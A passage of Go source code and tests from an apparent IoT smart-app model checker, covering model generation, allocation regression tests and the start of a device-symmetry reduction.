			dBC := withRef(ir.DevicesV([]ir.Value{ir.DeviceV(1), ir.DeviceV(2)}))
			dAA := withRef(ir.DevicesV([]ir.Value{ir.DeviceV(0), ir.DeviceV(0)}))
			if !bytes.Equal(m.CanonicalEncode(dAB, nil), m.CanonicalEncode(dBC, nil)) {
				t.Error("distinct-member reference pairs did not fold")
			}
			if bytes.Equal(m.CanonicalEncode(dAB, nil), m.CanonicalEncode(dAA, nil)) {
				t.Error("a doubled reference folded onto a distinct-member pair")
			}
			// The fold agrees with the group action on every sampled state:
			// permutation invariance with stashed references in play.
			orbits := m.DeviceOrbits()
			perm := make([]int, len(m.Devices))
			for d := range perm {
				perm[d] = d
			}
			o := orbits[0]
			perm[o[0]], perm[o[1]] = o[1], o[0]
			for i, s := range []*State{sA, sB, nA, dAB, dAA} {
				img, ok := m.ApplyDevicePermutation(s, perm)
				if !ok {
					t.Fatalf("state %d: transposition rejected", i)
				}
				if !bytes.Equal(m.CanonicalEncode(s, nil), m.CanonicalEncode(img, nil)) {
					t.Errorf("state %d: canonical encoding not invariant under transposition", i)
				}
			}
		})
	}
}

// Guard against the corpus drifting: the symmetry group must keep
// translating and stay symmetry-safe (its apps are the fold gate's
// fuel).
func TestSymmetryCorpusGroupTranslates(t *testing.T) {
	for _, s := range corpus.SymmetryGroup() {
		if _, err := smartapp.Translate(s.Groovy); err != nil {
			t.Errorf("%s: %v", s.Name, err)
		}
	}
	if n := len(corpus.SymmetryGroup()); n < 4 {
		t.Errorf("symmetry group has %d apps, want >= 4", n)
	}
}
