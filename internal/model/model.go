// Package model implements IotSan's Model Generator (§8): it combines
// translated apps, the system configuration, and device models into a
// checkable transition system.
//
// The package supports both designs the paper evaluates (§8 "Concurrency
// Model"): the sequential design of Algorithm 1, where each external
// event's cascade of internal events is handled atomically in FIFO
// order, and the concurrent design, where pending handler invocations
// interleave freely (one handler execution per transition). Device and
// communication failures are modeled by enumerating sensor/actuator
// availability per external event.
package model

import (
	"fmt"
	"sort"
	"strconv"
	"sync"

	"iotsan/internal/config"
	"iotsan/internal/device"
	"iotsan/internal/eval"
	"iotsan/internal/ir"
)

// Design selects the concurrency model (§8).
type Design int

// Designs.
const (
	Sequential Design = iota // Algorithm 1: atomic cascades (default)
	Concurrent               // handler-level interleaving
)

func (d Design) String() string {
	if d == Concurrent {
		return "concurrent"
	}
	return "sequential"
}

// Options configure model generation.
type Options struct {
	Design    Design
	MaxEvents int // external events per execution (paper's "number of events")
	// Failures enumerates device/communication failures: per external
	// event, the sensor may be offline or its report lost; per cascade,
	// actuator commands may be lost (§8).
	Failures bool
	// CheckConflicts enables the free-of-conflicting-commands and
	// free-of-repeated-commands properties.
	CheckConflicts bool
	// CheckLeakage enables the information-leakage and
	// security-sensitive-command properties.
	CheckLeakage bool
	// CheckRobustness enables the device-failure robustness property
	// (only meaningful with Failures).
	CheckRobustness bool
	// Invariants are the safe-physical-state monitors evaluated on every
	// reached state.
	Invariants []Invariant
	// MaxCascade bounds internal event dispatches per external event in
	// the sequential design (livelock guard).
	MaxCascade int
	// UserDeviceEvents adds physical user interaction with actuators to
	// the event space (flipping a switch by hand, using a key in a
	// lock): every enum attribute can change externally, not only those
	// of sensor capabilities. The Output Analyzer enables this so apps
	// triggered by actuator events are reachable standalone.
	UserDeviceEvents bool
	// UserModeEvents adds user-initiated location-mode changes (via the
	// companion app) to the external event space. The Output Analyzer
	// enables this so mode-triggered behaviour is reachable when the app
	// under test is verified standalone (§9 phase 1).
	UserModeEvents bool
	// InspectCascade evaluates invariants after every handler execution
	// inside a cascade (Spin-style statement-level assertion checking),
	// catching transient unsafe states that the cascade later corrects.
	// Off by default: the sequential design treats cascades as atomic.
	InspectCascade bool
	// RelevantAttrs, when non-nil, restricts external event generation
	// to the named attributes (the facade derives the set from the
	// handlers' input events, pruning sensor events no app observes).
	RelevantAttrs map[string]bool
	// Interpreter forces handler execution through the tree-walking
	// interpreter instead of the closure-compiled programs. The two are
	// observationally identical (the differential corpus test enforces
	// it); the interpreter is retained as the oracle and for debugging.
	Interpreter bool
	// Symmetry computes device orbits at New (symmetry.go): maximal sets
	// of interchangeable devices, proved by the compile-time footprint,
	// subscription, binding, and association checks. The checker's
	// Options.Symmetry then keys its visited store on the canonical
	// (orbit-folded) state encoding. Building the table is cheap; whether
	// the canonical path is used is the checker's decision.
	Symmetry bool
	// Incremental gives every State a per-block hash cache so the
	// engine digest re-encodes only the blocks a transition dirtied
	// (incremental.go). Off by default for direct Model users; the CLI
	// layer enables it unless -incremental=false.
	Incremental bool
	// Faults enables the persistent fault-injection layer: devices can
	// go offline (suppressing their sensed events, swallowing their
	// commands into the in-flight buffer, and serving stale attribute
	// reads to handlers) and later recover; held commands are delivered
	// late or silently dropped. Orthogonal to Failures, which models
	// instantaneous per-transition losses.
	Faults bool
	// MaxFaults bounds the budgeted fault transitions per execution
	// (going offline and dropping a command each cost one; recovery and
	// delivery are free). With MaxFaults 0 the fault machinery is inert
	// and the state space is byte-identical to Faults off.
	MaxFaults int
}

func (o *Options) maxCascade() int {
	if o.MaxCascade <= 0 {
		return 64
	}
	return o.MaxCascade
}

// Invariant is a compiled safe-physical-state property: Holds must be
// true in every reachable state.
type Invariant struct {
	ID          string
	Description string
	Holds       func(v *View) bool
}

// DevInst is one device instance in the model.
type DevInst struct {
	Idx     int
	ID      string
	Label   string
	Model   *device.Model
	Assoc   string
	Attrs   []device.Attribute // flattened, deduplicated schema
	attrIdx map[string]int
	// numStrs caches the string form of each numeric attribute's
	// generated values (enum attributes render from Attrs[i].Values).
	numStrs []map[int16]string
}

// attrString renders an attribute value without allocating for the
// precomputed (enum and generated-numeric) cases.
func (d *DevInst) attrString(ai int, raw int16) string {
	a := d.Attrs[ai]
	if !a.Numeric {
		if int(raw) < len(a.Values) {
			return a.Values[raw]
		}
		return "null"
	}
	if m := d.numStrs[ai]; m != nil {
		if s, ok := m[raw]; ok {
			return s
		}
	}
	return strconv.FormatInt(int64(raw), 10)
}

// AttrIndex returns the index of attr in the instance's layout, or -1.
// Device layouts are small (a few attributes), so a linear scan beats
// hashing the key; the map covers unusually wide layouts.
func (d *DevInst) AttrIndex(attr string) int {
	if len(d.Attrs) <= 8 {
		for i := range d.Attrs {
			if d.Attrs[i].Name == attr {
				return i
			}
		}
		return -1
	}
	if i, ok := d.attrIdx[attr]; ok {
		return i
	}
	return -1
}

// AppInst is one installed app instance with resolved bindings, its
// static state layout, and its closure-compiled programs.
type AppInst struct {
	Idx      int
	App      *ir.App
	Bindings map[string]ir.Value

	// StateKeys/StateIdx are the static persistent-state layout from
	// eval.StateLayout (nil StateIdx = dynamic, KV map retained).
	StateKeys []string
	StateIdx  map[string]int

	// Prog holds the closure-compiled methods; nil when compilation
	// fell back to the interpreter (or Options.Interpreter is set).
	Prog *eval.CompiledApp

	// methodNames/methodIdx give every method a dense index, used to
	// encode timer transitions into replay keys.
	methodNames []string
	methodIdx   map[string]int
}

// Subscription sources.
const (
	srcLocation = -1 // location mode events
	srcApp      = -2 // app touch events
	srcSun      = -3 // sunrise/sunset environment events
	srcTimer    = -4 // timer callbacks
	srcSynth    = -5 // synthetic sendEvent events
)

// resolvedSub is a flattened subscription: which handler of which app a
// given event reaches.
type resolvedSub struct {
	AppIdx  int
	Handler string
	Source  int // device index or one of the src* pseudo-sources
	Attr    string
	Value   string // event value filter, "" = any
}

// Model is the generated system model. It is immutable once New
// returns: verification reads it from many goroutines (the parallel
// checker strategy), so any new field must be fully resolved during New
// rather than filled in lazily.
type Model struct {
	Cfg     *config.System
	Devices []*DevInst
	Apps    []*AppInst
	Opts    Options

	subs     []resolvedSub
	external []ExtEvent

	// Dispatch indexes, precomputed at New so event delivery never
	// scans the full subscription table:
	//   subIdx   (source, attr) → subscription indices, in table order
	//   synthIdx attr → device-sourced subscriptions (sendEvent fakes)
	//   touchIdx app → its app-touch subscriptions
	subIdx   map[subKey][]int32
	synthIdx map[string][]int32
	touchIdx [][]int32

	// extLabels[evIdx][fm] are the transition labels for every external
	// event × failure mode; timerLabels[app][method][fm] likewise for
	// timer firings. Precomputing them keeps fmt off the hot path.
	// dispPre/dispPost[si] sandwich the runtime event value in a
	// concurrent-design dispatch label ("dispatch attr/" + value + " to
	// App.handler").
	extLabels   [][4]string
	timerLabels [][][4]string
	dispPre     []string
	dispPost    []string
	// faultLabels[d] are the offline/online fault-transition labels per
	// device (deliver/drop labels depend on the held command and are
	// concatenated at emit time — fault transitions are rare).
	faultLabels [][2]string

	// slotTotal is the summed static state-slot count across apps.
	slotTotal int

	// byCap/byAssoc index the (immutable) device inventory by capability
	// and association role; invariant atoms query them on every reached
	// state, so the per-state scan-and-allocate is hoisted to New.
	byCap   map[string][]*DevInst
	byAssoc map[string][]*DevInst

	// execs pools executors (with their compiled-execution Envs) so a
	// transition costs no executor allocations.
	execs sync.Pool

	// encBufs pools the incremental digest's block-encode scratch
	// buffers (refreshing a dirty block re-encodes just that block into
	// one of these).
	encBufs sync.Pool

	// statePool is the free-list of dead states the checker hands back
	// (checker.StateRecycler): Clone reuses their backing storage, which
	// removes most per-child allocation on the expansion hot path. Zero
	// value works — Get simply returns nil until something is recycled.
	statePool sync.Pool

	// trPool is the matching free-list of successor-slice backing
	// arrays (checker.TransitionRecycler): the DFS returns each frame's
	// consumed []Transition on pop and Expand reuses it.
	trPool sync.Pool

	// por is the partial-order-reduction table (concurrent design only;
	// nil otherwise). Built at New; consulted only when the checker runs
	// with Options.POR.
	por *porData

	// sym is the symmetry-reduction table (non-nil only when
	// Options.Symmetry found at least one non-trivial device orbit).
	// Built at New; consulted by CanonicalEncode, which the checker
	// routes its visited-store digests through under its own
	// Options.Symmetry.
	sym *symData
}

// subKey indexes resolved subscriptions by event source and attribute.
type subKey struct {
	src  int32
	attr string
}

// ExtEventKind classifies externally generated events.
type ExtEventKind int

// External event kinds.
const (
	EvDevice ExtEventKind = iota // physical event sensed by a device
	EvTouch                      // user taps the app
	EvSun                        // sunrise/sunset
	EvTimer                      // a scheduled timer fires (dynamic)
	EvMode                       // the user changes the location mode manually
)

// ExtEvent is one external event choice for the main loop of Algorithm 1.
type ExtEvent struct {
	Kind    ExtEventKind
	Dev     int    // device index for EvDevice
	AttrIdx int    // attribute index within the device
	Val     int16  // encoded attribute value
	AppIdx  int    // app index for EvTouch / EvTimer
	Handler string // for EvTimer
	Label   string
}

// New generates a model from a validated configuration and the
// translated apps (keyed by app name).
func New(cfg *config.System, apps map[string]*ir.App, opts Options) (*Model, error) {
	if err := cfg.Validate(); err != nil {
		return nil, err
	}
	if opts.MaxEvents <= 0 {
		opts.MaxEvents = 3
	}
	m := &Model{Cfg: cfg, Opts: opts}
	m.encBufs.New = func() any {
		b := make([]byte, 0, 256)
		return &b
	}

	for i, d := range cfg.Devices {
		dm := device.ModelByName(d.Model)
		inst := &DevInst{
			Idx: i, ID: d.ID, Label: labelOf(d), Model: dm, Assoc: d.Association,
			Attrs: dm.Attributes(), attrIdx: map[string]int{},
		}
		inst.numStrs = make([]map[int16]string, len(inst.Attrs))
		for j, a := range inst.Attrs {
			inst.attrIdx[a.Name] = j
			if a.Numeric {
				ns := make(map[int16]string, len(a.GenValues)+1)
				ns[int16(a.Default)] = strconv.FormatInt(int64(a.Default), 10)
				for _, gv := range a.GenValues {
					ns[int16(gv)] = strconv.FormatInt(int64(gv), 10)
				}
				inst.numStrs[j] = ns
			}
		}
		m.Devices = append(m.Devices, inst)
	}

	devIdx := map[string]int{}
	for i, d := range m.Devices {
		devIdx[d.ID] = i
	}

	for ai, inst := range cfg.Apps {
		app := apps[inst.App]
		if app == nil {
			return nil, fmt.Errorf("model: app %q not translated", inst.App)
		}
		bound := map[string]ir.Value{}
		for _, in := range app.Inputs {
			b, ok := inst.Bindings[in.Name]
			if !ok {
				if in.Default.Kind != ir.VNull {
					bound[in.Name] = in.Default
				} else {
					bound[in.Name] = ir.NullV()
				}
				continue
			}
			if in.Kind == ir.InputDevice {
				var devs []ir.Value
				for _, id := range b.DeviceIDs {
					di, ok := devIdx[id]
					if !ok {
						return nil, fmt.Errorf("model: app %q input %q: unknown device %q", inst.App, in.Name, id)
					}
					devs = append(devs, ir.DeviceV(di))
				}
				if in.Multiple {
					bound[in.Name] = ir.DevicesV(devs)
				} else if len(devs) > 0 {
					bound[in.Name] = devs[0]
				} else {
					bound[in.Name] = ir.NullV()
				}
			} else {
				bound[in.Name] = config.BindingValue(b.Value)
			}
		}
		m.Apps = append(m.Apps, &AppInst{Idx: ai, App: app, Bindings: bound})
	}

	// Static state layout + closure compilation, once per app instance.
	for _, app := range m.Apps {
		names := make([]string, 0, len(app.App.Methods))
		for name := range app.App.Methods {
			names = append(names, name)
		}
		sort.Strings(names)
		app.methodNames = names
		app.methodIdx = make(map[string]int, len(names))
		for i, n := range names {
			app.methodIdx[n] = i
		}

		if keys, ok := eval.StateLayout(app.App); ok {
			app.StateKeys = keys
			app.StateIdx = make(map[string]int, len(keys))
			for i, k := range keys {
				app.StateIdx[k] = i
			}
			m.slotTotal += len(keys)
		}
		if !opts.Interpreter {
			ca := eval.Compile(app.App, app.Bindings, app.StateIdx)
			if ca.Err == nil {
				app.Prog = ca
			}
			// On compile failure the app runs under the interpreter
			// with the same state layout — no mixed-mode execution.
		}
	}

	m.resolveSubscriptions()
	m.buildExternalEvents()
	m.buildDispatchIndex()
	m.buildLabels()
	m.byCap = map[string][]*DevInst{}
	m.byAssoc = map[string][]*DevInst{}
	for _, d := range m.Devices {
		for _, cn := range d.Model.Capabilities {
			m.byCap[cn] = append(m.byCap[cn], d)
		}
		if d.Assoc != "" {
			m.byAssoc[d.Assoc] = append(m.byAssoc[d.Assoc], d)
		}
	}
	m.execs.New = func() any { return m.newPooledExecutor() }
	if opts.Design == Concurrent {
		m.buildPOR()
	}
	if opts.Symmetry {
		m.buildSymmetry()
	}
	return m, nil
}

// buildDispatchIndex precomputes the (source, attr) → subscriptions
// index replacing linear scans of the subscription table during event
// delivery. Per-key lists preserve table order, so dispatch order is
// identical to the scans it replaces.
func (m *Model) buildDispatchIndex() {
	m.subIdx = map[subKey][]int32{}
	m.synthIdx = map[string][]int32{}
	m.touchIdx = make([][]int32, len(m.Apps))
	for si, sub := range m.subs {
		k := subKey{src: int32(sub.Source), attr: sub.Attr}
		m.subIdx[k] = append(m.subIdx[k], int32(si))
		if sub.Source >= 0 {
			m.synthIdx[sub.Attr] = append(m.synthIdx[sub.Attr], int32(si))
		}
		if sub.Source == srcApp {
			m.touchIdx[sub.AppIdx] = append(m.touchIdx[sub.AppIdx], int32(si))
		}
	}
}

// subsFor returns the subscription indices an event can reach before
// value filtering: exact (source, attr) matches, plus — for synthetic
// sendEvent events, which impersonate devices — every device-sourced
// subscription on the attribute.
func (m *Model) subsFor(source int, attr string) []int32 {
	if source == srcSynth {
		return m.synthIdx[attr]
	}
	return m.subIdx[subKey{src: int32(source), attr: attr}]
}

// buildLabels precomputes every transition label (external event ×
// failure mode, and timer × method × failure mode), so the hot path
// never formats strings.
func (m *Model) buildLabels() {
	fms := []failMode{failNone, failSensorOff, failSensorComm, failActuators}
	m.extLabels = make([][4]string, len(m.external))
	for i, ev := range m.external {
		m.extLabels[i][0] = ev.Label
		for _, fm := range fms[1:] {
			m.extLabels[i][fm] = ev.Label + " [" + fm.String() + "]"
		}
	}
	m.timerLabels = make([][][4]string, len(m.Apps))
	for ai, app := range m.Apps {
		m.timerLabels[ai] = make([][4]string, len(app.methodNames))
		for mi, name := range app.methodNames {
			base := "timer: " + app.App.Name + "." + name
			m.timerLabels[ai][mi][0] = base
			for _, fm := range fms[1:] {
				m.timerLabels[ai][mi][fm] = base + " [" + fm.String() + "]"
			}
		}
	}
	m.dispPre = make([]string, len(m.subs))
	m.dispPost = make([]string, len(m.subs))
	for si, sub := range m.subs {
		m.dispPre[si] = "dispatch " + sub.Attr + "/"
		m.dispPost[si] = " to " + m.Apps[sub.AppIdx].App.Name + "." + sub.Handler
	}
	if m.Opts.Faults {
		m.faultLabels = make([][2]string, len(m.Devices))
		for d, di := range m.Devices {
			m.faultLabels[d][0] = "fault: " + di.Label + " goes offline"
			m.faultLabels[d][1] = "fault: " + di.Label + " back online"
		}
	}
}

func labelOf(d config.Device) string {
	if d.Label != "" {
		return d.Label
	}
	return d.ID
}

// resolveSubscriptions flattens app subscriptions to (source, attr,
// value) → handler entries. A subscription on a multi-device input
// yields one entry per bound device.
func (m *Model) resolveSubscriptions() {
	for _, app := range m.Apps {
		for _, sub := range app.App.Subscriptions {
			switch sub.Source {
			case "location":
				switch sub.Attribute {
				case "sunrise", "sunset", "sunriseTime", "sunsetTime":
					m.subs = append(m.subs, resolvedSub{
						AppIdx: app.Idx, Handler: sub.Handler, Source: srcSun,
						Attr: "sun", Value: trimTime(sub.Attribute),
					})
				default:
					m.subs = append(m.subs, resolvedSub{
						AppIdx: app.Idx, Handler: sub.Handler, Source: srcLocation,
						Attr: "mode", Value: sub.Value,
					})
				}
			case "app":
				m.subs = append(m.subs, resolvedSub{
					AppIdx: app.Idx, Handler: sub.Handler, Source: srcApp, Attr: "touch",
				})
			default:
				bound := app.Bindings[sub.Source]
				for _, dv := range devicesOf(bound) {
					m.subs = append(m.subs, resolvedSub{
						AppIdx: app.Idx, Handler: sub.Handler, Source: dv,
						Attr: sub.Attribute, Value: sub.Value,
					})
				}
			}
		}
	}
}

func trimTime(s string) string {
	if s == "sunriseTime" {
		return "sunrise"
	}
	if s == "sunsetTime" {
		return "sunset"
	}
	return s
}

func devicesOf(v ir.Value) []int {
	switch v.Kind {
	case ir.VDevice:
		return []int{v.Dev}
	case ir.VDevices, ir.VList:
		var out []int
		for _, e := range v.L {
			if e.Kind == ir.VDevice {
				out = append(out, e.Dev)
			}
		}
		return out
	}
	return nil
}

// buildExternalEvents enumerates the physical event space the main loop
// permutes (Algorithm 1 line 2): every sensor attribute value of every
// sensor device, app-touch events for apps subscribed to them, and
// sunrise/sunset when subscribed.
func (m *Model) buildExternalEvents() {
	for _, d := range m.Devices {
		for ai, a := range d.Attrs {
			if !m.attrIsSensed(d, a.Name) {
				if !m.Opts.UserDeviceEvents || a.Numeric {
					continue
				}
			}
			if m.Opts.RelevantAttrs != nil && !m.Opts.RelevantAttrs[a.Name] {
				continue
			}
			if a.Numeric {
				for _, gv := range a.GenValues {
					m.external = append(m.external, ExtEvent{
						Kind: EvDevice, Dev: d.Idx, AttrIdx: ai, Val: int16(gv),
						Label: fmt.Sprintf("%s.%s = %d", d.Label, a.Name, gv),
					})
				}
			} else {
				for vi, v := range a.Values {
					m.external = append(m.external, ExtEvent{
						Kind: EvDevice, Dev: d.Idx, AttrIdx: ai, Val: int16(vi),
						Label: fmt.Sprintf("%s.%s = %s", d.Label, a.Name, v),
					})
				}
			}
		}
	}
	touched := map[int]bool{}
	sun := false
	for _, s := range m.subs {
		if s.Source == srcApp && !touched[s.AppIdx] {
			touched[s.AppIdx] = true
			m.external = append(m.external, ExtEvent{
				Kind: EvTouch, AppIdx: s.AppIdx,
				Label: fmt.Sprintf("app touch: %s", m.Apps[s.AppIdx].App.Name),
			})
		}
		if s.Source == srcSun {
			sun = true
		}
	}
	if sun {
		m.external = append(m.external,
			ExtEvent{Kind: EvSun, Val: 0, Label: "sunrise"},
			ExtEvent{Kind: EvSun, Val: 1, Label: "sunset"},
		)
	}
	if m.Opts.UserModeEvents {
		for i, mode := range m.Cfg.Modes {
			m.external = append(m.external, ExtEvent{
				Kind: EvMode, Val: int16(i),
				Label: "user sets mode " + mode,
			})
		}
	}
	sort.SliceStable(m.external, func(i, j int) bool {
		return m.external[i].Label < m.external[j].Label
	})
}

// attrIsSensed reports whether an attribute of this device generates
// external (environment) events: it belongs to a capability flagged as a
// sensor.
func (m *Model) attrIsSensed(d *DevInst, attr string) bool {
	for _, cn := range d.Model.Capabilities {
		c := device.CapabilityByName(cn)
		if c.Sensor && c.Attribute(attr) != nil {
			return true
		}
	}
	return false
}

// ExternalEvents exposes the enumerated event space (for diagnostics and
// the Promela emitter).
func (m *Model) ExternalEvents() []ExtEvent { return m.external }

// ModeIndex returns the index of a mode name in the configuration,
// adding semantics for unknown modes (clamped to existing).
func (m *Model) ModeIndex(mode string) int {
	for i, x := range m.Cfg.Modes {
		if x == mode {
			return i
		}
	}
	return -1
}
