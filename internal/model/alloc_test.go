package model

import (
	"testing"

	"iotsan/internal/checker"
	"iotsan/internal/config"
	"iotsan/internal/ir"
	"iotsan/internal/smartapp"
)

// cascadeApp wires a two-hop cascade: a motion event drives a switch
// command, whose state-change event drives a second handler updating
// persistent (slotted) state.
const cascadeApp = `
definition(name: "Cascade", namespace: "t", author: "t", description: "t", category: "t")
preferences {
    section("s") { input "motion1", "capability.motionSensor" }
    section("s") { input "switches", "capability.switch" }
}
def installed() {
    subscribe(motion1, "motion", onMotion)
    subscribe(switches, "switch", onSwitch)
}
def onMotion(evt) {
    if (evt.value == "active") { switches.on() } else { switches.off() }
}
def onSwitch(evt) {
    state.flips = (state.flips ?: 0) + 1
}
`

func cascadeModel(t *testing.T, interpreter bool) *Model {
	return cascadeModelOpts(t, Options{MaxEvents: 3, Interpreter: interpreter})
}

func cascadeModelOpts(t *testing.T, opts Options) *Model {
	t.Helper()
	app, err := smartapp.Translate(cascadeApp)
	if err != nil {
		t.Fatal(err)
	}
	cfg := &config.System{
		Name: "alloc-home",
		Devices: []config.Device{
			{ID: "m1", Label: "Motion", Model: "Motion Sensor"},
			{ID: "sw1", Label: "Light", Model: "Smart Switch"},
		},
		Apps: []config.AppInstance{
			{App: "Cascade", Bindings: map[string]config.Binding{
				"motion1":  {DeviceIDs: []string{"m1"}},
				"switches": {DeviceIDs: []string{"sw1"}},
			}},
		},
	}
	m, err := New(cfg, map[string]*ir.App{"Cascade": app}, opts)
	if err != nil {
		t.Fatal(err)
	}
	return m
}

// TestCascadeZeroAllocs is the allocation regression gate for the
// compiled hot path: executing a full sequential-design handler cascade
// (sensor update → compiled handler → actuator command → second
// compiled handler → slotted state write) on a pooled executor performs
// zero heap allocations. Successor-state materialization (State.Clone)
// is measured separately below — it is the only allocating step left in
// a transition.
func TestCascadeZeroAllocs(t *testing.T) {
	m := cascadeModel(t, false)
	if m.Apps[0].Prog == nil {
		t.Fatal("cascade app should compile")
	}
	if m.Apps[0].StateIdx == nil {
		t.Fatal("cascade app should have slotted state")
	}

	s := m.Initial()
	d := m.Devices[0]
	ai := d.AttrIndex("motion")
	if ai < 0 {
		t.Fatal("no motion attribute")
	}
	active := int16(indexOf(d.Attrs[ai].Values, "active"))
	inactive := int16(indexOf(d.Attrs[ai].Values, "inactive"))
	if active < 0 || inactive < 0 {
		t.Fatalf("motion values missing: %v", d.Attrs[ai].Values)
	}

	x := m.newPooledExecutor()
	val := active
	run := func() {
		s.Cmds = s.Cmds[:0]
		x.reset(s, failNone, false)
		x.sensorUpdate(0, ai, val)
		x.drain()
		if val == active {
			val = inactive
		} else {
			val = active
		}
	}
	run() // warm the queue, env stacks, and command log
	run()

	if allocs := testing.AllocsPerRun(200, run); allocs != 0 {
		t.Errorf("cascade executed with %.2f allocs/run, want 0", allocs)
	}

	if s.Apps[0].Slots[m.Apps[0].StateIdx["flips"]].AsInt() < 2 {
		t.Error("cascade did not reach the second handler")
	}
}

// TestCloneAllocBudget pins the per-clone allocation count: the flat
// attribute/slot backing plus the device and app headers — O(1) in the
// number of device attributes, not O(devices).
func TestCloneAllocBudget(t *testing.T) {
	m := cascadeModel(t, false)
	s := m.Initial()
	allocs := testing.AllocsPerRun(100, func() {
		_ = s.Clone()
	})
	// State struct + Devices headers + flat attrs + Apps headers + flat
	// slots = 5 allocations regardless of device count.
	if allocs > 5 {
		t.Errorf("State.Clone allocates %.1f times, want <= 5", allocs)
	}

	// The incremental block-hash cache (hashes + dirty mask + devref
	// mask, one shared backing) adds exactly one.
	mi := cascadeModelOpts(t, Options{MaxEvents: 3, Incremental: true})
	si := mi.Initial()
	allocs = testing.AllocsPerRun(100, func() {
		_ = si.Clone()
	})
	if allocs > 6 {
		t.Errorf("State.Clone with incremental cache allocates %.1f times, want <= 6", allocs)
	}
}

// TestStealSteadyStateAllocParity is the CI allocation gate for the
// parallel expansion hot path: a complete work-stealing search at
// workers=1 (epoch reclamation on, so dead frontier states and
// consumed successor arrays recycle through the model's pools) must
// stay within 2× of sequential DFS in allocations per explored state.
// Before PR 8 the ratio was ~5× — every steal frontier state was a
// fresh clone; the gate pins the recycled steady state.
func TestStealSteadyStateAllocParity(t *testing.T) {
	// Fixed per-search setup (deque ring, reclaimer slots, visited
	// store, goroutine spawn) dwarfs the per-state cost on a model this
	// small, so the gate measures the MARGINAL allocations per state
	// between two workload sizes — the setup cancels and what remains
	// is the expansion hot path.
	small := cascadeModelOpts(t, Options{MaxEvents: 3, Incremental: true})
	big := cascadeModelOpts(t, Options{MaxEvents: 7, Incremental: true})
	marginal := func(strat checker.StrategyKind) float64 {
		o := checker.Options{MaxDepth: 100, Strategy: strat, Workers: 1}
		measure := func(m *Model) (float64, int) {
			res := checker.Run(m.System(), o) // warm the model's pools; capture the state count
			if res.Truncated || res.StatesExplored == 0 {
				t.Fatalf("%v: truncated=%v states=%d", strat, res.Truncated, res.StatesExplored)
			}
			return testing.AllocsPerRun(5, func() {
				checker.Run(m.System(), o)
			}), res.StatesExplored
		}
		aS, nS := measure(small)
		aB, nB := measure(big)
		if nB <= nS {
			t.Fatalf("%v: workloads not ordered (%d vs %d states)", strat, nS, nB)
		}
		return (aB - aS) / float64(nB-nS)
	}
	dfs := marginal(checker.StrategyDFS)
	steal := marginal(checker.StrategySteal)
	t.Logf("marginal allocs/state: dfs %.2f, steal(workers=1) %.2f (ratio %.2fx)", dfs, steal, steal/dfs)
	if steal > 2*dfs {
		t.Errorf("steal allocates %.2f/state vs dfs %.2f/state (%.2fx, want <= 2x)", steal, dfs, steal/dfs)
	}
}

// TestIncrementalDigestZeroAlloc is the CI allocation gate for the
// incremental digest path: folding a fully clean state's cached block
// hashes performs zero heap allocations, and so does refreshing dirty
// blocks (the per-block re-encode runs in pooled scratch; this model
// has no KV apps, whose sorted-key encoding is the one deliberate
// exception on dirty blocks).
func TestIncrementalDigestZeroAlloc(t *testing.T) {
	m := cascadeModelOpts(t, Options{MaxEvents: 3, Incremental: true})
	s := m.Initial()
	m.IncrementalDigest(s, false) // settle caches and warm the scratch pool

	if allocs := testing.AllocsPerRun(200, func() {
		m.IncrementalDigest(s, false)
	}); allocs != 0 {
		t.Errorf("clean-state incremental digest allocates %.2f times, want 0", allocs)
	}

	if allocs := testing.AllocsPerRun(200, func() {
		s.MarkAllDirty()
		m.IncrementalDigest(s, false)
	}); allocs != 0 {
		t.Errorf("all-dirty incremental digest allocates %.2f times, want 0", allocs)
	}
}
