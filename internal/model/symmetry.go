package model

import (
	"bytes"
	"fmt"
	"sort"
	"strings"
	"sync"

	"iotsan/internal/device"
	"iotsan/internal/eval"
	"iotsan/internal/ir"
)

// Symmetry reduction over interchangeable devices.
//
// Device inventories routinely contain interchangeable instances — two
// identical presence sensors, three door contacts — and every
// permutation of such devices induces an isomorphic subspace the
// checker would otherwise explore separately. This file implements an
// orbit-based symmetry reduction: at model construction the devices are
// partitioned into *orbits* of pairwise-interchangeable instances, and
// the checker's visited store keys on a canonicalized state encoding in
// which each orbit's device blocks (together with the dependent state
// that references devices by index) are permuted into a canonical
// representative. Isomorphic states then collide in the store and only
// one representative subspace is explored.
//
// Interchangeability is proved statically, from the artifacts the
// partial-order-reduction work already extracts. Devices i and j share
// an orbit only when the transposition (i j) is an automorphism of the
// generated transition system:
//
//   - identical schema (the same device model) and identical initial
//     attribute values, so the permuted initial state is the initial
//     state;
//   - identical association role, so every invariant's association
//     bindings are fixed by the swap (invariants quantify over
//     ByAssociation/ByCapability sets, which are unions of orbits);
//   - identical subscription sequences: the table-order sequence of
//     (app, handler, attribute, value-filter) entries sourced at i
//     equals that of j, giving each subscription of an orbit device a
//     *role* index and the swap a subscription bijection;
//   - identical binding positions: i appears in an app input's device
//     list exactly when j does (position within the list is
//     deliberately ignored — uniform broadcasts commute, and the
//     canonicalization normalises their order-dependent queue and
//     command-log footprints);
//   - every app observing the devices carries a symmetry certificate
//     from the compile-time effects analysis (eval.AppEffects): no
//     Unknown footprints and no DeviceIdentity uses (identity reads,
//     position-sensitive list extraction, device-list-derived state
//     writes) that could distinguish the instances.
//
// Soundness does not rest on the canonical choice being a perfect
// orbit minimum: the canonical key of a state s is the raw encoding of
// g(s) for some genuine group element g (a product of within-orbit
// transpositions applied to device blocks, device references in app
// state, queued events, and the command log, composed with a
// queue/command-log normalisation that is itself a bisimulation — the
// pending queue is semantically a multiset in the concurrent design and
// always empty between transitions in the sequential one, and
// command-log violation detection is membership-based). Two states can
// therefore only collide in the store when they are genuinely related
// by the symmetry group; a suboptimal canonical choice merely folds
// less. The checker keeps raw states in its frontier and trails, so
// counter-example replay reproduces concrete executions of the raw
// model.
//
// Symmetry composes multiplicatively with partial-order reduction: POR
// prunes interleavings before successors reach the store, symmetry
// folds the survivors across device permutations, and a folded state
// counts as visited for POR's cycle proviso because the proviso probes
// the same canonical store.

// symData is the symmetry-reduction table, built at New when
// Options.Symmetry is set and at least one non-trivial orbit exists.
type symData struct {
	orbitOf   []int32   // device index → orbit id, -1 for singletons
	orbits    [][]int32 // orbit id → member device indices, ascending
	roleOf    []int32   // subscription index → role among its device's subs (-1 otherwise)
	subByRole [][]int32 // device index → role → subscription index (orbit devices only)

	// flatCanon routes the incremental canonical digest through the flat
	// CanonicalEncode instead of the cached-hash canonical fold. On
	// tiny-orbit inventories the fold's profile bookkeeping costs more
	// than the re-hash it avoids, so buildSymmetry sets this when every
	// orbit is at most flatCanonMaxOrbit devices.
	flatCanon bool

